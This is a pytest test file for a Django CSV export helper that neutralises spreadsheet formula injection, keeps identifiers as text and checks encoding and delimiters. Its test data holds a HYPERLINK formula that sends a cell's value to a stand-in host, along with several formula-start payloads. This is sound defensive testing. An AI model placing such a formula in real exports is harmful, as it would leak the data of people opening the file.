"""The one file writer (prakerja.lib.csvfile): formula cells neutralised for every dangerous first character,
also after leading blanks, from Python rows and from a query alike; identifiers kept as text; UTF-8 with a BOM;
`,` or `;`."""
from __future__ import annotations

import csv
import io

import pytest
from django.db.models import F, Value

from prakerja.lib import csvfile
from prakerja.lib.csvfile import Column
from registration.models import Applicant

DANGEROUS = ["=", "+", "-", "@", "\t", "\r"]
FORMULA = '=HYPERLINK("http://x.example/?d="&B2,"Cek")'
CELLS = [
    *(start + "1+1" for start in DANGEROUS), *(" " + start + "cmd" for start in DANGEROUS),
    *("  \n " + start + "x" for start in DANGEROUS), FORMULA, "+6281234567890", "-", "@", " ", "", "\n",
    "Siti Aminah", "a=b", "O'Neil", "1+1", "3201014701860008", "Ñoño", "x\n=y", "\u00a0=1",
]


@pytest.mark.parametrize("start", DANGEROUS)
@pytest.mark.parametrize("blanks", ["", " ", "   ", "\n", " \n "])
def test_it_neutralises_every_dangerous_first_character(start, blanks):
    value = blanks + start + "SUM(A1:A9)"
    assert csvfile.neutralise(value) == "'" + value


@pytest.mark.parametrize("value", ["", " ", "\n", "Siti", "a=b", "1+1", "'=x", "x\n=y", "3201014701860008"])
def test_it_leaves_harmless_text_alone(value):
    assert csvfile.neutralise(value) == value


def _read(blocks) -> tuple[bytes, list[list[str]]]:
    raw = b"".join(blocks)
    return raw, list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


def test_it_writes_utf8_with_a_bom_and_neutralises_python_rows():
    columns = [Column("text", "=label"), Column("n", "n")]
    raw, rows = _read(csvfile.csv_blocks(columns, [[(cell, 1) for cell in CELLS]]))
    assert raw.startswith(b"\xef\xbb\xbf")
    assert rows[0] == ["'=label", "n"]
    assert [row[0] for row in rows[1:]] == [csvfile.neutralise(cell) for cell in CELLS]
    assert {row[1] for row in rows[1:]} == {"1"}


def test_the_sql_twin_neutralises_exactly_as_python(applicant):
    values = Applicant.objects.annotate(**{
        f"c{i}": csvfile.NeutralisedText(Value(cell)) for i, cell in enumerate(CELLS)
    }).values_list(*(f"c{i}" for i in range(len(CELLS)))).get()
    assert list(values) == [csvfile.neutralise(cell) for cell in CELLS]
    kept = Applicant.objects.annotate(**{
        f"c{i}": csvfile.KeptAsText(Value(cell)) for i, cell in enumerate(CELLS)
    }).values_list(*(f"c{i}" for i in range(len(CELLS)))).get()
    assert list(kept) == [csvfile.keep_as_text(cell) for cell in CELLS]


def test_a_query_and_python_rows_give_the_same_file(applicant, other_applicant):
    Applicant.objects.filter(pk=applicant.pk).update(full_name=FORMULA)
    columns = [Column("full_name", "full_name"), Column("nik", "nik", as_text=True),
               Column("phone", "phone", as_text=True), Column("n", "n")]
    query = Applicant.objects.order_by("pk").annotate(n=F("pk") * 0 + 7)
    from_sql, rows = _read(csvfile.csv_blocks(columns, query))
    python_rows = [tuple(query.values_list("full_name", "nik", "phone", "n"))]
    from_python, _rows = _read(csvfile.csv_blocks(columns, python_rows))
    assert from_sql == from_python
    assert rows[1] == ["'" + FORMULA, "'3201014112900001", "'+6281234567890", "7"]


def test_it_keeps_identifiers_as_text_with_one_apostrophe():
    columns = [Column("nik", "nik", as_text=True), Column("phone", "phone", as_text=True)]
    _raw, rows = _read(csvfile.csv_blocks(columns, [[("3201014701860008", "+6281234567890"), ("", "")]]))
    assert rows[1:] == [["'3201014701860008", "'+6281234567890"], ["", ""]]


@pytest.mark.parametrize("delimiter", [",", ";"])
def test_it_writes_with_the_chosen_delimiter(delimiter):
    raw = b"".join(csvfile.csv_blocks([Column("a", "a"), Column("b", "b")], [[("x;y", "1,5")]], delimiter=delimiter))
    assert list(csv.reader(io.StringIO(raw.decode("utf-8-sig")), delimiter=delimiter)) == [["a", "b"], ["x;y", "1,5"]]
    assert raw.decode("utf-8-sig").splitlines()[0] == f"a{delimiter}b"


def test_it_refuses_another_delimiter():
    with pytest.raises(ValueError):
        list(csvfile.csv_blocks([Column("a", "a")], [], delimiter="\t"))
